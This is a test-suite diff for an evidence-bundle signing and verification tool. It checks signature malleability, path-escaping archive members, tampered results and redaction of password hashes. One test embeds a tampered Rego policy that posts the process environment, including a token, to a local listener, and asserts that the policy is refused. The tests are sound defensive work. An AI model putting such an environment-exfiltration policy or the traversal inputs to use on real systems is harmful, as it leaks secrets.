@@ -139,11 +139,108 @@ def test_sm2_with_sm3_signs_and_verifies(tmp_path):
     assert key.fingerprint == public.fingerprint
     assert signing.verify(b"manifest bytes", sig, key)
     assert not signing.verify(b"manifest bytes!", sig, key)
+    assert not signing.verify(b"manifest bytes", sig + b"\0junk", key)  # only r || s, nothing after
+    n = int("FFFFFFFEFFFFFFFFFFFFFFFFFFFFFFFF7203DF6B21C6052B53BBF40939D54123", 16)
+    r, s_ = int.from_bytes(sig[:32], "big"), int.from_bytes(sig[32:], "big")
+    if r + n < 2 ** 256:  # the same r modulo n, out of range
+        assert not signing.verify(b"manifest bytes", (r + n).to_bytes(32, "big") + s_.to_bytes(32, "big"), key)
 
 
 def test_keygen_never_overwrites_a_private_key(keys):
     p = run_zicha("keygen", "--out", str(keys[0].parent))
     assert p.returncode == 2 and "will not overwrite a private key" in p.stderr
+
+
+def test_keygen_never_overwrites_a_public_key_the_inspectors_hold(tmp_path):
+    (tmp_path / "zicha-signing.pub").write_text("the key the inspectors were given\n")
+    p = run_zicha("keygen", "--out", str(tmp_path))
+    assert p.returncode == 2 and "will not overwrite a public key" in p.stderr
+    assert not (tmp_path / "zicha-signing.key").exists()
+
+
+def test_a_member_that_escapes_the_bundle_is_refused_before_anything_is_written(bundle, keys, tmp_path):
+    target = tmp_path / "escaped.rego"
+    for name in (f"policies/{target}", f"policies//{target}", "policies/./x.rego", "policies/", "./results.json"):
+        files = members(bundle)
+        files[name] = b"package escaped\n"
+        bad = tmp_path / "bad.tar.gz"
+        rewrite(bad, files)
+        p = run_zicha("verify", str(bad), "--pubkey", str(keys[1]))
+        assert p.returncode == 2 and "unexpected member" in p.stderr, (name, p.stderr)
+        assert not target.exists()
+
+
+def test_the_bundle_s_policies_cannot_reach_the_network_or_the_environment(bundle, keys, tmp_path):
+    """A tampered policy that would post the inspector's environment somewhere is refused, not run."""
+    import http.server
+    import threading
+
+    heard = []
+
+    class Listener(http.server.BaseHTTPRequestHandler):
+        def do_POST(self):  # noqa: N802
+            heard.append(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
+            self.send_response(200)
+            self.end_headers()
+
+        def log_message(self, *a):
+            pass
+
+    server = http.server.HTTPServer(("127.0.0.1", 0), Listener)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        files = members(bundle)
+        files["policies/lib/leak.rego"] = (
+            "package zicha.lib.leak\n\n"
+            f'sent := http.send({{"method": "post", "url": "http://127.0.0.1:{server.server_port}/", '
+            '"body": opa.runtime().env})\n').encode()
+        bad = tmp_path / bundle.name
+        rewrite(bad, files)
+        p = run_zicha("verify", str(bad), "--pubkey", str(keys[1]), env={"INSPECTOR_TOKEN": "s3cret-token"})
+    finally:
+        server.shutdown()
+    assert p.returncode == 1
+    assert "policies/lib/leak.rego: in the bundle but not in the manifest" in p.stdout
+    assert "cannot decide again" in p.stdout and "undefined function http.send" in p.stdout
+    assert heard == []
+
+
+def test_a_report_is_not_written_from_an_altered_bundle(bundle, tmp_path):
+    files = members(bundle)
+    doc = json.loads(files["results.json"])
+    doc["results"] = [dict(r, status="pass") for r in doc["results"]]
+    files["results.json"] = json.dumps(doc).encode()
+    bad = tmp_path / bundle.name
+    rewrite(bad, files)
+    p = run_zicha("report", str(bad), "--out", str(tmp_path / "r"), "--format", "md")
+    assert p.returncode == 2 and "results.json: sha256 differs" in p.stderr and "zicha verify" in p.stderr
+    assert not (tmp_path / "r" / "report.md").exists()
+
+
+@pytest.mark.parametrize("change", ["result without host", "manifest a list", "bare attachment"])
+def test_malformed_bundles_are_named_not_tracebacks(bundle, keys, tmp_path, change):
+    files = members(bundle)
+    if change == "result without host":
+        doc = json.loads(files["results.json"])
+        del doc["results"][0]["host"]
+        files["results.json"] = json.dumps(doc).encode()
+    elif change == "manifest a list":
+        files["manifest.json"] = b"[]"
+    else:
+        files["attachments/loose.txt"] = b"x"
+    bad = tmp_path / bundle.name
+    rewrite(bad, files)
+    for cmd in (["verify", str(bad), "--pubkey", str(keys[1])], ["report", str(bad), "--out", str(tmp_path)]):
+        p = run_zicha(*cmd)
+        assert p.returncode in (1, 2) and "Traceback" not in p.stderr, (cmd, p.stderr)
+        assert p.stdout.strip() or p.stderr.strip()
+
+
+def test_the_bundle_keeps_the_exact_data_and_no_weak_password_list(bundle):
+    files = members(bundle)
+    data = json.loads(files["data.json"])
+    assert "weak_passwords" not in data["params"] and "[redacted]" not in files["data.json"].decode()
+    assert "Admin@123" not in b"".join(files.values()).decode("utf-8", "replace")
 
 
 def test_redaction_catches_hashes_and_private_keys():
@@ -155,6 +252,41 @@ def test_redaction_catches_hashes_and_private_keys():
     assert out["ansible_password"] == "[redacted]" and out["password"] == "set" and out["password_file"] == "/etc/x.pass"
     assert "$6$" not in out["note"] and "PRIVATE KEY" not in out["key"].replace("[redacted private key]", "")
     assert counter[0] == 3
+
+
+@pytest.mark.parametrize("secret", [
+    "$6$rounds=656000$saltsaltsalt$0123456789abcdefABCDEF/.",     # sha512crypt with rounds
+    "$9$nhEmQVczB7dQTB$V0nkYTvZc/YYsuI9Q2Xf0r4q2GdPM2bFcw4VMXw4cA",  # Cisco type 9 (scrypt)
+    "$8$dsYGNam3K1SIJO$7nv/35M/qr6t.dVc7UY9zrJDWRVqncHub1PE9UlMQFs",  # Cisco type 8 (PBKDF2)
+    "$argon2id$v=19$m=65536,t=3,p=4$c2FsdHNhbHQ$ZGlnZXN0ZGlnZXN0",
+    "$1a$K%cAh3qO-F$wA%)2f*e=VXM{(e\\*,|\"O+zbdjrH3iIZW:Q#:]'/q+=$",  # Huawei irreversible-cipher
+    "%^%#wQ8sQ/Z|;M6(!H8>&{`>P=2Mr5,d%^%#",                          # Huawei cipher envelope
+    "@%@%9E8H:Vd7+Ktk6DO2Iz!.1$y|@%@%",                              # USG
+    "$h$6$Qw4SVhUNvYZbVFXS$pBLL6vEfSx8jZn5+5PzGaPvU2Vqf6yfMhq8oq6lcyTCMtN/T8W7lFPLZaCbJCyc2TUaCxB4Hdp8Uw==",
+])
+def test_redaction_knows_the_hash_and_cipher_forms_of_hosts_and_devices(secret):
+    counter = [0]
+    out = evidence.redact({"note": f"line: {secret} end"}, counter)
+    assert counter[0] == 1 and secret not in out["note"] and out["note"].endswith(" end"), out
+
+
+def test_redaction_knows_key_settings_by_name():
+    counter = [0]
+    doc = {"psk": "ipsec-shared", "tacacs_key": "tk1", "pre_shared_key": "psk2", "public_key": "AAAAC3Nz",
+           "key_fingerprint": "ab:cd", "share_key": "3f2a"}
+    out = evidence.redact(doc, counter)
+    assert [k for k, v in out.items() if v == "[redacted]"] == ["psk", "tacacs_key", "pre_shared_key"]
+
+
+def test_redaction_keeps_evidence_whose_names_only_sound_secret():
+    counter = [0]
+    doc = {"sshd": {"password_authentication": "no", "permit_empty_passwords": "no"},
+           "observed": {"with_password": ["root", "finance"], "zones": {"secret": {"trust": 4}}},
+           "accounts": [{"name": "root", "password": "set"}, {"name": "guest", "password": "empty"}],
+           "ansible_become_pass": "hunter22", "snmp_community": "public", "password": "hunter2"}
+    out = evidence.redact(doc, counter)
+    assert out["sshd"] == doc["sshd"] and out["observed"] == doc["observed"] and out["accounts"] == doc["accounts"]
+    assert out["ansible_become_pass"] == out["snmp_community"] == out["password"] == "[redacted]" and counter[0] == 3
 
 
 def test_redaction_keeps_hosts_whose_names_sound_secret():
